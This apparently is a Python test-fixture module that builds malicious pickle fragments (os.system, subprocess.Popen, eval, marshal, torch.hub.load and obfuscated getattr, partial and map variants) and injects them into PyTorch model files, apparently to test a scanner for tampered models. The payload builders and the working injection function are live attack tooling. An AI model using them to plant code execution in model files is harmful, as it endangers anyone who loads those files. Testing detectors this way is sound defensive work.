"""Pickles that would do harm in a reader that runs them, made here; none of them runs in the tests.

Each trick is a piece of pickle that leaves the stack as it found it, so that it can be put before
the object of any real file, as those who tamper with models do.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

PROTO = b"\x80\x02"


def text(value: str) -> bytes:
    """A string opcode."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, *args: str) -> bytes:
    """A call with strings as arguments, its result thrown away."""
    return _named(module, name) + b"(" + b"".join(map(text, args)) + b"tR0"


def tricks(command: str, code: str) -> Mapping[str, tuple[bytes, str]]:
    """Name to the piece, and the global that it names; it runs ``command`` (shell), or ``code``."""
    run, shell = text(code), text(command)
    return {
        "reduce": (call("posix", "system", command), "posix.system"),
        "stack global": (_stacked("os", "system") + shell + b"\x85R0", "os.system"),
        "dotted name": (
            _stacked("builtins", "eval.__call__") + run + b"\x85R0",
            "builtins.eval.__call__",
        ),
        "newobj": (_named("subprocess", "Popen") + shell + b"\x85\x810", "subprocess.Popen"),
        "newobj_ex": (_named("subprocess", "Popen") + shell + b"\x85}\x920", "subprocess.Popen"),
        "build": (_named("builtins", "eval") + b")R" + run + b"b0", "builtins.eval"),
        "setstate": (
            _named("doctest", "debug_script") + b")R}" + text("x") + run + b"sb0",
            "doctest.debug_script",
        ),
        "import": (call("builtins", "__import__", "antigravity"), "builtins.__import__"),
        "getattr of a module": (
            _named("builtins", "getattr")
            + _named("os", "path")
            + text("system")
            + b"\x86R"
            + shell
            + b"\x85R0",
            "builtins.getattr",
        ),
        "attrgetter": (
            _named("operator", "attrgetter")
            + text("system")
            + b"\x85R"
            + _named("os", "name")
            + b"\x85R0",
            "operator.attrgetter",
        ),
        "partial": (
            _named("functools", "partial") + _named("os", "system") + shell + b"\x86R)R0",
            "functools.partial",
        ),
        "map": (
            _named("builtins", "list")
            + _named("builtins", "map")
            + _named("os", "system")
            + b"]"
            + shell
            + b"a\x86R\x85R0",
            "builtins.map",
        ),
        "marshal": (
            _named("types", "FunctionType") + _named("marshal", "loads") + b"C\x01N\x85R}\x86R0",
            "marshal.loads",
        ),
        "torch loads another": (call("torch", "load", "other.pt"), "torch.load"),
        "torch hub": (call("torch.hub", "load", "owner/repo", "model"), "torch.hub.load"),
        "reconstructor": (
            _named("copy_reg", "_reconstructor")
            + b"("
            + _named("os", "_wrap_close")
            + _named("builtins", "object")
            + b"NtR0",
            "copy_reg._reconstructor",
        ),
        "in a set": (b"\x8f(" + call("os", "system", command)[:-1] + b"\x900", "os.system"),
        "as a key": (b"}" + call("os", "system", command)[:-1] + b"Ns0", "os.system"),
        "never called": (_named("nt", "system") + b"0", "nt.system"),
        "on a known name": (
            _named("torch._utils", "_rebuild_parameter") + _named("os", "system") + b"\x85R0",
            "torch._utils._rebuild_parameter",
        ),
    }


def injected(pickle: bytes, piece: bytes) -> bytes:
    """A pickle with a piece put before its object."""
    return PROTO + piece + pickle.removeprefix(PROTO)


def inject(path: Path, piece: bytes) -> None:
    """Put a piece into a file of ``torch.save``; its zip, if it is one, is made right again."""
    content = path.read_bytes()
    if not content.startswith(b"PK"):
        path.write_bytes(_injected_legacy(content, piece))
        return
    stream = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            record = old.read(name)
            new.writestr(name, injected(record, piece) if name.endswith("/data.pkl") else record)
    path.write_bytes(stream.getvalue())


def _injected_legacy(content: bytes, piece: bytes) -> bytes:
    """The object is the fourth pickle, after magic number, version and system."""
    begin = -1
    for _ in range(4):
        begin = content.index(PROTO, begin + 1)
    return content[:begin] + injected(content[begin:], piece)
